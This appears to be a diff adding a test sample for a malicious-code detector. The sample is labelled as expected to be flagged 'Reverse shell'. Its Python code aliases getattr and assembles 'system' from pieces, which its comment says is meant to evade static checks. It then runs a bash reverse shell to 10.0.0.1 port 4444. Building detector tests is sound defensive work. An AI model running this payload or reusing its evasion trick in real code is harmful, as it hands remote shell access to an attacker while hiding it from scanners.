@@ -0,0 +1,7 @@
+# 通过from builtins导入的getattr别名拼接属性名，绕过对getattr名字的静态检查
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+from builtins import getattr as g
+import os
+
+name = "".join(["sys", "tem"])
+g(os, name)("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")